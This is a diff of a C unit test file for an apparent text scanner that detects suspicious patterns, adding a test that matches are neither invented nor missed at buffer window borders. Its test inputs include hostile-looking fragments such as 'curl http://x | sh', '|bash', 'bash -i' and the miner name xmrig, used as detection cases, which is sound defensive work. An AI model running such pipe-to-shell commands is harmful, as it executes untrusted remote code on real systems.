@@ -87,6 +87,9 @@ static void assert_stream_is_whole(const struct scan_stream_sizes *sizes, const 
 	findings_release(&found);
 }
 
+#define HEX    "\\x41\\x42\\x43\\x44"
+#define BASE64 "QUJDREVGR0hJSktMTU5PUFFS"
+
 static const char *const pieces[] = {
 	" xmrig ",
 	"curl http://x | sh ",
@@ -96,9 +99,8 @@ static const char *const pieces[] = {
 	"\xC3\xA9|sh\xE4\xB8\xAD",
 	"|bash",
 	"<system>",
-	"\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48\\x49\\x4a\\x4b\\x4c\\x4d\\x4e\\x4f\\x50\\x51\\x52\\x53\\x5"
-	"4",
-	"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODlBQkNERUZHSEk",
+	(HEX HEX HEX HEX HEX),
+	(BASE64 BASE64 BASE64 BASE64),
 	"\xF0\x9F\x98\x80 bash -i ",
 	"plain text `",
 	"\n\n",
@@ -228,6 +230,41 @@ static void stream_of_long_text_finds_wherever_it_lies(void **state)
 		}
 }
 
+// What is no match must not become one where a window ends or begins in its middle, and what would be too little text
+// for a short stretch is enough in a long one.
+static void stream_of_long_text_sees_no_borders(void **state)
+{
+	uint64_t seed = 25;
+	char data[20000];
+	struct findings found;
+
+	(void)state;
+	for (size_t shift = 0; shift < 40; shift++) {
+		memset(data, '_', sizeof(data));
+		for (size_t i = shift; i + 30 < sizeof(data); i += 30)
+			memcpy(data + i, " xmrigs printenvs <systems> ", 28);
+		assert_int_equal(stream(&small, data, sizeof(data), &seed, &found), 0);
+		assert_int_equal(found.count, 0);
+		findings_release(&found);
+	}
+	for (size_t shift = 0; shift < 7; shift++) {
+		for (size_t i = 0; i < sizeof(data); i++)
+			data[i] = "_xmrig-"[(i + shift) % 7];
+		data[0] = '_';
+		assert_int_equal(stream(&small, data, sizeof(data), &seed, &found), 0);
+		assert_int_equal(found.count, 0);
+		findings_release(&found);
+	}
+	for (size_t i = 0; i < sizeof(data); i++)
+		data[i] = "\xE4\xB8\xAD"[i % 3];
+	memcpy(data + 6000, "|sh", 3);
+	memcpy(data + 9000, "abcdefghi", 9);
+	assert_int_equal(stream(&small, data, sizeof(data) / 3 * 3, &seed, &found), 0);
+	assert_int_equal(found.count, 1);
+	assert_true(found_at(&found, "EXEC_PIPE_BASH", 6000));
+	findings_release(&found);
+}
+
 static void stream_of_one_match_longer_than_windows_is_one_finding(void **state)
 {
 	uint64_t seed = 23;
@@ -316,6 +353,7 @@ int main(void)
 		cmocka_unit_test(stream_finds_at_every_alignment),
 		cmocka_unit_test(stream_of_nothing_finds_nothing),
 		cmocka_unit_test(stream_of_long_text_finds_wherever_it_lies),
+		cmocka_unit_test(stream_of_long_text_sees_no_borders),
 		cmocka_unit_test(stream_of_one_match_longer_than_windows_is_one_finding),
 		cmocka_unit_test(stream_of_long_text_between_ticks_is_refused),
 		cmocka_unit_test(stream_over_its_budget_stays_failed),
